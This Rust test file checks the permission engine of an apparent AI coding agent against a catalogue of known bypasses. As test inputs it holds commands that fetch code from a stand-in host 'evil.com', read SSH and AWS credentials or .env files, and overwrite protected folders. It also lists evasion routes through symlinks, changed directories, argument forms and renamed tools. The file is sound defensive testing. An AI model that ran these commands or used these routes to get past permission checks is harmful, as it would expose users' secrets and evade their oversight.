//! Known bypasses of the engine, one row each.
//!
//! The test machine has a few files, symlinks and huge folders, because most of these bypasses
//! avoided a name: by a folder, a symlink, an argument, or a missing question.

use std::path::{Path, PathBuf};

use zero_core::{
    CLIENT_TERMINAL, CLIENT_TOOL_SOURCE, CommandExecution, Effect, PathZone, RiskLevel, TargetPath,
    ToolDefinitionState, ToolName,
};
use zero_policy::rule::{RuleOwner, RuleSource};
use zero_policy::{
    DecisionRequest, EmptyMachine, FileSearchOutcome, GrantScope, Machine, PermissionMode,
    PolicyDecision, PolicyEngine, PolicyEngineConfig, PolicyRule, TargetProtection, Verdict,
};

use crate::engine_harness::build_engine;

const FILES: &[&str] = &[
    "/w/.env",
    "/w/secrets/key",
    "/w/src/a.rs",
    "/w/src/b.rs",
    "/w/docs/a.md",
    "/w/evil/.vscode/tasks.json",
    "/w/evil/workflows/x.yml",
    "/w/plain/a",
    "/w/plain/deep/b",
    "/w/real/secret.txt",
    "/w/pinned/rust-toolchain.toml",
    "/w/custom/rust-toolchain.toml",
];
/// A symlink and its target.
const LINK: (&str, &str) = ("/w/link", "/w/real");
/// Folders with more files than are searched.
const HUGE_FOLDERS: &[&str] = &["/", "/w/huge"];

/// A machine with those files.
struct FakeMachine {
    /// The path of `npm`, if it exists.
    npm: Option<&'static str>,
}

impl Machine for FakeMachine {
    fn canonicalize(&self, absolute: &Path) -> Option<PathBuf> {
        let plain = EmptyMachine.canonicalize(absolute)?;
        Some(match plain.strip_prefix(LINK.0) {
            Ok(below) => Path::new(LINK.1).join(below).components().collect(),
            Err(_) => plain,
        })
    }

    fn expand_glob(&self, pattern: &str, _most: usize) -> Option<Vec<PathBuf>> {
        let (start, end) = pattern.split_once('*').unwrap_or((pattern, ""));
        let fits = |file: &&&str| {
            let rest = file.strip_prefix(start).and_then(|rest| rest.strip_suffix(end));
            rest.is_some_and(|rest| !rest.contains('/') && !rest.starts_with('.'))
        };
        Some(FILES.iter().filter(fits).map(PathBuf::from).collect())
    }

    fn git_helpers(&self, _folder: &Path) -> Vec<String> {
        Vec::new()
    }

    fn find_program(&self, name: &str, _folder: &Path) -> Option<PathBuf> {
        self.npm.filter(|_| name == "npm").map(PathBuf::from)
    }

    fn is_folder(&self, canonical: &Path) -> bool {
        let mut files = FILES.iter().map(Path::new);
        files.any(|file| file != canonical && file.starts_with(canonical))
    }

    fn names_toolchain_folder(&self, file: &Path) -> bool {
        !file.starts_with("/w/pinned")
    }

    fn find_file(&self, folder: &Path, wanted: &dyn Fn(&Path) -> bool) -> FileSearchOutcome {
        if HUGE_FOLDERS.iter().any(|endless| Path::new(endless) == folder) {
            return FileSearchOutcome::Unfinished;
        }
        let is_beneath = |file: &PathBuf| file.starts_with(folder) && file != folder;
        let mut beneath = FILES.iter().map(PathBuf::from).filter(is_beneath);
        beneath
            .find(|file| wanted(file))
            .map_or(FileSearchOutcome::NotFound, FileSearchOutcome::Found)
    }

    fn target_protection(&self, _: &[PathBuf], _: Option<&Path>, _: &Path) -> TargetProtection {
        TargetProtection::Unprotected
    }
}

fn decide_command(
    engine: &PolicyEngine,
    command: &str,
    grants: &[GrantScope],
    world: &FakeMachine,
) -> PolicyDecision {
    let effects = [Effect::Exec(CommandExecution::from_shell(command))];
    engine.decide(DecisionRequest {
        tool: "Bash",
        risk: RiskLevel::High,
        effects: &effects,
        arguments: None,
        grants,
        mode: None,
        machine: world,
    })
}

/// Checks the verdict on a command.
#[track_caller]
fn check(mode: PermissionMode, rules: &str, command: &str, expected: &str) {
    let decision =
        decide_command(&build_engine(rules, mode), command, &[], &FakeMachine { npm: None });
    assert_eq!(
        decision.verdict.as_str(),
        expected,
        "`{command}` under `{rules}` in {mode}: {}\n{:#?}",
        decision.reason,
        decision.effects
    );
}

/// The same in permissive modes, with everything allowed by rules too.
#[track_caller]
fn check_in_auto_mode(command: &str, expected: &str) {
    check(
        PermissionMode::AcceptEdits,
        "allow Bash(*); allow Edit; allow Delete",
        command,
        expected,
    );
    check(PermissionMode::Auto, "allow Bash(*); allow Edit; allow Delete", command, expected);
}

#[test]
fn reading_script_returns_from_existing_folder() {
    let ask = PermissionMode::Ask;
    check(ask, "", "cd src; ls; cd ..; ls", "allow");
    check(ask, "", "cd src; cat a.rs; cd ../docs; cat a.md; cd ..; ls", "allow");
    // Nothing else may make `cd` fail.
    for command in [
        "cd none; ls; cd ..; ls",
        "cd src/a.rs; ls; cd ..; ls",
        "cd src; cd ..; cd ..; ls",
        "cd src | ls; cd ..; ls",
        "cd src || cd ..; cd ..; ls",
        "cd $X; cd ..; ls",
        "cd src & cd ..; ls",
        "(cd src); cd ..; ls",
    ] {
        check(ask, "", command, "ask");
    }
    // A script that changes something may remove the folder first.
    let edits = PermissionMode::AcceptEdits;
    check(edits, "", "mv src lib; cd src; cd ..; cat x", "ask");
    check(edits, "", "echo > plain/a; cd src; cd ..; cat x", "ask");
    check(ask, "allow Bash(make:*)", "make; cd src; cd ..; cat x", "ask");
    check(ask, "deny Read(real/**)", "cd real || cat real/secret.txt", "deny");
}

#[test]
fn toolchain_file_is_asked_about_if_it_names_folder() {
    let ask = PermissionMode::Ask;
    for version in ["cargo --version", "rustc -V", "cargo -V"] {
        check(ask, "", version, "allow");
        check(ask, "", &format!("cd pinned && {version}"), "allow");
        check(ask, "", &format!("cd custom && {version}"), "ask");
        check(ask, "", &format!("cd pinned/../custom && {version}"), "ask");
    }
}

#[test]
fn restored_file_is_an_edit() {
    let edits = PermissionMode::AcceptEdits;
    for (command, expected) in [
        ("git restore src/a.rs", "allow"),
        ("cd src && git restore a.rs", "allow"),
        ("git restore src", "ask"),
        ("git restore src/a.rs docs", "ask"),
        ("git restore huge", "ask"),
        ("git restore link", "ask"),
        ("git restore $X", "ask"),
        ("git -c core.fsmonitor=./x restore src/a.rs", "ask"),
        ("git -C src restore a.rs", "ask"),
        ("find . -name x | xargs git restore src/a.rs", "ask"),
        ("git restore --recurse-submodules src/a.rs", "ask"),
        ("git restore .vscode/tasks.json", "ask"),
    ] {
        check(edits, "", command, expected);
        check(PermissionMode::Ask, "allow Bash(git:*)", command, "ask");
        check(PermissionMode::Plan, "", command, "deny");
    }
    check(edits, "deny Edit(src/**)", "git restore src/a.rs", "deny");
    check(edits, "ask Edit(src/**)", "git restore src/a.rs", "ask");
    check(edits, "deny Bash(git restore:*)", "git restore src/a.rs", "deny");
}

#[test]
fn unbounded_search_is_asked() {
    const DENY: &str = "allow Bash(*); deny Read(.env)";
    check(PermissionMode::Auto, DENY, "grep -r x huge", "ask");
    check(PermissionMode::Auto, DENY, "grep -r x plain", "allow");
    check(PermissionMode::Auto, DENY, "grep -r x .", "ask");
    check(PermissionMode::Auto, DENY, "grep -r x /", "ask");
    check(PermissionMode::Auto, "allow Bash(*)", "grep -r x huge", "allow");
    check(PermissionMode::Auto, "allow Bash(*)", "grep -r x .", "allow");
    check(PermissionMode::Ask, "ask Read(src/a.rs)", "grep -r x src", "ask");
    check(PermissionMode::Ask, "ask Read(src/a.rs)", "grep -r x docs", "allow");
    // By the written name, and by the target of a symlink.
    check(PermissionMode::Ask, "deny Read(link/secret.txt)", "grep -r x link/", "ask");
    check(PermissionMode::Ask, "deny Read(real/secret.txt)", "grep -r x link/", "ask");
}

#[test]
fn search_skips_files_that_need_asking() {
    let may = |rules: &str, written: &str, canonical: &str| {
        build_engine(rules, PermissionMode::Ask).may_read(
            "Grep",
            Path::new(written),
            Path::new(canonical),
        )
    };
    assert!(may("", "src/a.rs", "/w/src/a.rs"));
    assert!(!may("ask Read(src/a.rs)", "src/a.rs", "/w/src/a.rs"));
    assert!(!may("deny Read(src/a.rs)", "src/a.rs", "/w/src/a.rs"));
    assert!(!may("ask Grep(src/**)", "src/a.rs", "/w/src/a.rs"));
    assert!(may("ask Glob(src/**)", "src/a.rs", "/w/src/a.rs"));
    // With a question about every read, the search itself was asked about.
    assert!(may("ask Read", "src/a.rs", "/w/src/a.rs"));
    assert!(!may("deny Read", "src/a.rs", "/w/src/a.rs"));
    assert!(!may("deny Read(link/x)", "link/x", "/w/real/x"));
    assert!(!may("", ".ssh/id_rsa", "/w/.ssh/id_rsa"));
    assert!(may("allow Read(.ssh/**)", ".ssh/id_rsa", "/w/.ssh/id_rsa"));
    assert!(build_engine("ask Read(src/a.rs)", PermissionMode::Ask).filters_reads());
    assert!(build_engine("deny Read(src/a.rs)", PermissionMode::Ask).filters_reads());
    assert!(!build_engine("allow Read(src/a.rs)", PermissionMode::Ask).filters_reads());
}

#[test]
fn opaque_program_operands_are_checked_against_files() {
    const RULES: &str = "allow Bash(*); allow Edit; allow Read; deny Read(.env); \
        deny Read(secrets/**); deny Edit(src/**); ask Read(docs/**)";
    for (command, expected) in [
        ("foo .env", "deny"),
        ("foo ./.env", "deny"),
        ("foo --file=.env", "deny"),
        ("foo -f.env", "deny"),
        ("foo if=.env", "deny"),
        ("foo @.env", "deny"),
        ("foo .e*", "deny"),
        ("foo secrets/x", "deny"),
        ("foo secrets/*", "deny"),
        ("foo \"secrets/$x\"", "deny"),
        ("foo -v ./secrets:/mnt", "deny"),
        ("cd secrets && foo key", "deny"),
        ("gpg -c .env", "deny"),
        ("docker run --env-file=.env img", "deny"),
        ("rustfmt src/a.rs", "deny"),
        ("clang-format -i src/a.c", "deny"),
        ("black src", "deny"),
        ("timeout 5 gpg -c .env", "deny"),
        ("foo docs/a.md", "ask"),
        ("foo other", "allow"),
        ("foo --file=other", "allow"),
        // Running or reading a file does not change it.
        ("pytest src/a.py", "allow"),
        ("node src/a.js", "allow"),
        ("make src", "allow"),
        ("npm run src", "allow"),
    ] {
        check(PermissionMode::Auto, RULES, command, expected);
    }
    // A rule without a path is about calls, not about every word.
    check(PermissionMode::Auto, "allow Bash(*); deny Edit", "foo x", "allow");
    let parts: Vec<String> = (0..100).map(|part| part.to_string()).collect();
    let many = format!("foo {}", parts.join(","));
    check(PermissionMode::Auto, RULES, &many, "ask");
}

#[test]
fn opaque_program_operands_are_checked_against_hosts() {
    const RULES: &str =
        "allow Bash(*); deny WebFetch(domain:evil.com); ask WebFetch(domain:*.x.org)";
    for (command, expected) in [
        ("lynx http://evil.com", "deny"),
        ("lynx HTTP://EVIL.com./x", "deny"),
        ("pip install http://evil.com/x", "deny"),
        ("pip install git+https://evil.com/x", "deny"),
        ("npm i --registry=http://evil.com", "deny"),
        ("go get evil.com/x", "deny"),
        ("docker pull evil.com/x", "deny"),
        ("psql -h evil.com", "deny"),
        ("psql -hevil.com", "deny"),
        ("openssl s_client evil.com:443", "deny"),
        ("foo me@evil.com:x", "deny"),
        ("foo \"http://evil.com/$x\"", "deny"),
        ("foo 'http://evil.com/?a=*'", "deny"),
        ("foo https://a.x.org/y", "ask"),
        ("foo http://a@b@evil.com", "ask"),
        ("foo http://good.com", "allow"),
        ("foo notevil.com", "allow"),
        ("foo main.rs", "allow"),
        ("foo file:///w/x", "allow"),
    ] {
        check(PermissionMode::Auto, RULES, command, expected);
    }
    check(PermissionMode::Auto, "allow Bash(*); deny WebFetch", "lynx http://a.com", "deny");
    // A word that may be a file does not match rules for all hosts.
    check(PermissionMode::Auto, "allow Bash(*); deny WebFetch", "foo main.rs", "allow");
    check(PermissionMode::Auto, "allow Bash(*); deny WebFetch(domain:*)", "foo main.rs", "allow");
    // It never allows anything.
    check(PermissionMode::Ask, "allow WebFetch(domain:evil.com)", "lynx http://evil.com", "ask");
}

#[test]
fn opaque_program_operands_may_be_protected() {
    for command in [
        "gpg -o .git/config x",
        "mknod .git/hooks/x p",
        "ssh-keygen -f .git/config",
        "foo --out=.vscode/tasks.json",
        "foo .github",
        "python3 -m venv .git",
    ] {
        check(PermissionMode::Auto, "", command, "ask");
        check(PermissionMode::Auto, "allow Bash(*)", command, "ask");
    }
    check(PermissionMode::Auto, "", "foo src/a.rs", "allow");
    check(PermissionMode::Auto, "", "make CC=/usr/bin/gcc", "allow");
    check(PermissionMode::Auto, "", "git add .github/workflows/ci.yml", "allow");
    check(PermissionMode::Auto, "allow Bash(foo .github)", "foo .github", "allow");
}

#[test]
fn replacing_folder_with_protected_content_is_asked() {
    for command in [
        "cp -r evil/. .",
        "cp -rT evil .",
        "cp -a evil/. /w",
        "cp -r evil/* .github",
        "cp -rT evil .github",
        "cp -rT evil .cargo",
        "ln -sfn evil .github",
        "mv .github x",
        "mv .git y",
        "mv evil .cargo",
        "mv evil .config",
        "mv evil gradle",
        "mv . x",
        "cp -r huge/. .",
        "cp -r \"$x\" .",
        "tar xf x",
        "unzip x",
        "unzip -o x.zip",
        "tar xf x .vscode/tasks.json",
        "rm -r .vscode",
    ] {
        check_in_auto_mode(command, "ask");
    }
    for command in
        ["cp -r plain/. .", "cp -r plain .", "mv plain other", "tar xf x -C vendor", "cp a.rs ."]
    {
        check_in_auto_mode(command, "allow");
    }
}

/// An engine whose workspace is the home folder.
fn engine_at_home(rules: &str, mode: PermissionMode) -> PolicyEngine {
    let source = || RuleSource { name: "test".to_owned(), line: None, owner: RuleOwner::User };
    let parse = |text| PolicyRule::parse(text, Verdict::Allow, source()).unwrap();
    PolicyEngine::new(PolicyEngineConfig {
        rules: rules.split("; ").filter(|rule| !rule.is_empty()).map(parse).collect(),
        mode,
        roots: vec![PathBuf::from("/home/me")],
        home: Some(PathBuf::from("/home/me")),
        ..PolicyEngineConfig::default()
    })
}

#[test]
fn secrets_in_workspace_are_asked() {
    let verdict = |rules: &str, command: &str| {
        let engine = engine_at_home(rules, PermissionMode::Auto);
        decide_command(&engine, command, &[], &FakeMachine { npm: None }).verdict.as_str()
    };
    for (rules, command, expected) in [
        ("", "cat .ssh/id_rsa", "ask"),
        ("Bash(*)", "cat .ssh/id_rsa", "ask"),
        ("Bash(cat:*)", "cat .aws/credentials", "ask"),
        ("Bash(cat .ssh/id_rsa)", "cat .ssh/id_rsa", "allow"),
        ("Read(~/.ssh/**)", "cat .ssh/id_rsa", "allow"),
        ("", "cat notes.txt", "allow"),
        ("", "grep -r x .", "ask"),
        ("Bash(*)", "grep -r x .", "ask"),
        ("Read(~/**)", "grep -r x .", "allow"),
        ("", "grep -r x notes", "allow"),
    ] {
        assert_eq!(verdict(rules, command), expected, "`{command}` under `{rules}`");
    }
    assert!(engine_at_home("", PermissionMode::Ask).filters_reads());
    let may = |file: &str| {
        engine_at_home("", PermissionMode::Ask).may_read("Grep", Path::new(file), Path::new(file))
    };
    assert!(!may("/home/me/.ssh/id_rsa"));
    assert!(may("/home/me/notes.txt"));
}

#[test]
fn allowing_edit_does_not_allow_removal() {
    check(PermissionMode::Ask, "allow Edit(src/**)", "rm src/a.rs", "ask");
    check(PermissionMode::Ask, "allow Write", "rm src/a.rs", "ask");
    check(PermissionMode::Ask, "allow Edit(src/**)", "mv src/a.rs src/c.rs", "ask");
    check(PermissionMode::Ask, "allow Delete(src/**)", "rm src/a.rs", "allow");
    check(PermissionMode::Ask, "allow Bash(rm src/a.rs)", "rm src/a.rs", "allow");
    check(PermissionMode::Ask, "deny Edit(src/**); allow Delete", "rm src/a.rs", "deny");
    check(PermissionMode::Ask, "ask Edit(src/**); allow Delete", "rm src/a.rs", "ask");
}

#[test]
fn glob_is_evaluated_by_its_matches() {
    check(PermissionMode::Ask, "allow Edit(src/**)", "sed -i s/a/b/ src/*.rs", "allow");
    check(PermissionMode::Ask, "allow Edit(src/*.rs)", "sed -i s/a/b/ src/*.rs", "allow");
    check(PermissionMode::Ask, "allow Edit(src/a.rs)", "sed -i s/a/b/ src/*.rs", "ask");
    check(
        PermissionMode::Ask,
        "allow Edit(src/**); deny Edit(src/b.rs)",
        "sed -i s/a/b/ src/*.rs",
        "deny",
    );
    check(PermissionMode::AcceptEdits, "", "touch .git/*", "ask");
    check(PermissionMode::AcceptEdits, "", "touch .github/*", "ask");
}

/// The decision on a call of a remote tool with this name.
fn decide_remote_tool(
    rules: &str,
    name: &str,
    server: &str,
    tool: &str,
    definition: ToolDefinitionState,
) -> String {
    let (server, tool) = (server.to_owned(), tool.to_owned());
    let effects = [Effect::Mcp { server, tool, definition }];
    let risk = RiskLevel::High;
    let request = DecisionRequest {
        tool: name,
        risk,
        effects: &effects,
        arguments: None,
        grants: &[],
        mode: None,
        machine: &EmptyMachine,
    };
    build_engine(rules, PermissionMode::Auto).decide(request).verdict.as_str().to_owned()
}

#[test]
fn mcp_rule_matches_server_and_local_tool_name() {
    use ToolDefinitionState::{Changed, Steady};
    for (rules, name, definition, expected) in [
        ("allow a__b.c", "a__b_c_1234", Steady, "allow"),
        ("allow a__b_c_1234", "a__b_c_1234", Steady, "allow"),
        ("allow a__b_c_1234", "a__b_c_1234", Changed, "ask"),
        ("allow a__b_c_5678", "a__b_c_1234", Steady, "ask"),
        ("allow a__b_c_1234; ask a__b.c", "a__b_c_1234", Steady, "ask"),
        ("allow a__b_c_1234; deny a__b.c", "a__b_c_1234", Steady, "deny"),
        ("allow a__b.c; deny a__b_c_1234", "a__b_c_1234", Steady, "deny"),
        ("allow a__b.c; deny a__B_C_1234", "a__b_c_1234", Steady, "deny"),
        ("allow x__b_c_1234", "x__b_c_1234", Steady, "ask"),
    ] {
        let said = decide_remote_tool(rules, name, "a", "b.c", definition);
        assert_eq!(said, expected, "{name} under `{rules}`");
    }
}

#[test]
fn mcp_deny_rule_ignores_letter_case() {
    let verdict = |rules: &str, server: &str, tool: &str| {
        decide_remote_tool(
            rules,
            &format!("{server}__{tool}"),
            server,
            tool,
            ToolDefinitionState::Steady,
        )
    };
    for (rules, server, tool, expected) in [
        ("allow *; deny github__create_issue", "GitHub", "create_issue", "deny"),
        ("allow *; deny github__create_issue", "github", "Create_Issue", "deny"),
        ("allow *; deny GitHub__*", "github", "x", "deny"),
        ("allow *; ask mcp__github", "GITHUB", "x", "ask"),
        ("allow github__x", "GitHub", "x", "ask"),
        ("allow github__x", "github", "x", "allow"),
    ] {
        assert_eq!(verdict(rules, server, tool), expected, "{server}__{tool} under `{rules}`");
    }
}

#[test]
fn changed_mcp_definition_is_asked_despite_allow() {
    let decide = |rules: &str, mode, definition, grants: &[GrantScope]| {
        let (server, tool) = ("github".to_owned(), "x".to_owned());
        let effects = [Effect::Mcp { server, tool, definition }];
        let (tool, risk) = ("github__x", RiskLevel::High);
        build_engine(rules, mode).decide(DecisionRequest {
            tool,
            risk,
            effects: &effects,
            arguments: None,
            grants,
            mode: None,
            machine: &EmptyMachine,
        })
    };
    let granted = decide("", PermissionMode::Ask, ToolDefinitionState::Steady, &[]).grants;
    assert_eq!(granted.len(), 1);
    // The deciding rules for a tool as approved, and after it changed.
    let rows = [
        ("", PermissionMode::Ask, &[][..], "ask", "ask"),
        ("", PermissionMode::Ask, &granted[..], "allow", "ask"),
        ("allow github__x", PermissionMode::Ask, &[], "allow", "ask"),
        ("allow mcp__github", PermissionMode::Ask, &[], "allow", "ask"),
        ("allow *", PermissionMode::Auto, &granted, "allow", "ask"),
        ("", PermissionMode::AcceptEdits, &granted, "allow", "ask"),
        ("ask github__x; allow *", PermissionMode::Auto, &granted, "ask", "ask"),
        ("deny github__x; allow *", PermissionMode::Auto, &granted, "deny", "deny"),
        ("deny mcp__github", PermissionMode::Ask, &granted, "deny", "deny"),
        ("allow github__x", PermissionMode::Plan, &granted, "deny", "deny"),
    ];
    for (rules, mode, grants, steady, changed) in rows {
        for (definition, expected) in
            [(ToolDefinitionState::Steady, steady), (ToolDefinitionState::Changed, changed)]
        {
            let decision = decide(rules, mode, definition, grants);
            let seen = decision.verdict.as_str();
            assert_eq!(seen, expected, "{definition:?} `{rules}` {mode:?}: {}", decision.reason);
        }
        let decision = decide(rules, mode, ToolDefinitionState::Changed, grants);
        assert_eq!(decision.grants, [], "nobody can settle it for a session: `{rules}` {mode:?}");
    }
    let reason = decide("allow *", PermissionMode::Auto, ToolDefinitionState::Changed, &[]).reason;
    assert!(reason.contains("changed since you approved it"), "{reason}");
}

#[test]
fn mcp_grant_names_only_that_tool() {
    let decide = |rules: &str, own: &str, grants: &[GrantScope]| {
        let name = ToolName::from_namespaced("github", own).unwrap();
        let definition = ToolDefinitionState::Steady;
        let effect = Effect::Mcp { server: "github".to_owned(), tool: own.to_owned(), definition };
        build_engine(rules, PermissionMode::Ask).decide(DecisionRequest {
            tool: name.as_str(),
            risk: RiskLevel::High,
            effects: &[effect],
            arguments: None,
            grants,
            mode: None,
            machine: &EmptyMachine,
        })
    };
    let names = ["*", "a b", "ü", "x", "a,b", "Bash(*)", "", "x\"y"];
    for own in names {
        let granted = decide("", own, &[]).grants;
        let here = ToolName::from_namespaced("github", own).unwrap();
        assert_eq!(granted.len(), 1, "{own}");
        assert_eq!(granted[0].rule, here.as_str());
        for other in names {
            let expected = if own == other { "allow" } else { "ask" };
            let by_grant = decide("", other, &granted);
            let by_rule = decide(&format!("allow {here}"), other, &[]);
            for decision in [by_grant, by_rule] {
                let seen = decision.verdict.as_str();
                assert_eq!(seen, expected, "{own:?} for {other:?}: {}", decision.reason);
            }
        }
    }
}

#[test]
fn braces_in_rule_are_an_error() {
    let source = RuleSource { name: "test".to_owned(), line: None, owner: RuleOwner::User };
    let error = PolicyRule::parse("Read({s1,s2})", Verdict::Deny, source).unwrap_err().to_string();
    assert!(error.contains("write a rule for each"), "{error}");
}

#[test]
fn folder_grant_does_not_cover_contents() {
    let engine = build_engine("", PermissionMode::Ask);
    let disk = FakeMachine { npm: None };
    let folder = TargetPath::new("~", "/home/me".into(), PathZone::Outside);
    let effects = [Effect::Read(folder)];
    let request = DecisionRequest {
        tool: "LS",
        risk: RiskLevel::Low,
        effects: &effects,
        arguments: None,
        grants: &[],
        mode: None,
        machine: &disk,
    };
    let grants = engine.decide(request).grants;
    assert_eq!(grants.len(), 1);
    assert_eq!(
        engine.decide(DecisionRequest { grants: &grants, ..request }).verdict,
        Verdict::Allow
    );
    for command in ["cat ~/.ssh/id_rsa", "cat ~/x", "grep -r x ~"] {
        let decision = decide_command(&engine, command, &grants, &disk);
        assert_eq!(decision.verdict, Verdict::Ask, "{command}: {}", decision.reason);
    }
    assert_eq!(decide_command(&engine, "tar xf x", &[], &disk).grants, []);
    assert_eq!(decide_command(&engine, "unzip x -d vendor", &[], &disk).grants, []);
}

#[test]
fn grant_for_missing_program_does_not_cover_new_one() {
    let engine = build_engine("", PermissionMode::Ask);
    let gone = FakeMachine { npm: None };
    let grants = decide_command(&engine, "npm test", &[], &gone).grants;
    assert_eq!(decide_command(&engine, "npm test", &grants, &gone).verdict, Verdict::Allow);
    let come = FakeMachine { npm: Some("/tmp/npm") };
    assert_eq!(decide_command(&engine, "npm test", &grants, &come).verdict, Verdict::Ask);
}

/// A command in a terminal of the editor is outside the sandbox, so nothing answers in the user's
/// place.
#[test]
fn no_rule_mode_or_grant_allows_the_editor_terminal() {
    let effects = [Effect::Mcp {
        server: CLIENT_TOOL_SOURCE.to_owned(),
        tool: CLIENT_TERMINAL.to_owned(),
        definition: ToolDefinitionState::Steady,
    }];
    let rule = "acp__terminal".to_owned();
    let grants = [GrantScope { rule, folder: None, program: None }];
    for (rules, mode, expected) in [
        ("allow *; allow acp__terminal; allow acp__*", PermissionMode::Auto, "ask"),
        ("", PermissionMode::AcceptEdits, "ask"),
        ("ask acp__terminal", PermissionMode::Auto, "ask"),
        ("deny acp__terminal", PermissionMode::Auto, "deny"),
        ("deny acp__*", PermissionMode::Auto, "deny"),
        ("allow *", PermissionMode::Plan, "deny"),
    ] {
        let decision = build_engine(rules, mode).decide(DecisionRequest {
            tool: "acp__terminal",
            risk: RiskLevel::Critical,
            effects: &effects,
            arguments: None,
            grants: &grants,
            mode: None,
            machine: &EmptyMachine,
        });
        assert_eq!(decision.verdict.as_str(), expected, "{rules} in {mode}");
        assert!(decision.grants.is_empty(), "{rules}");
    }
}
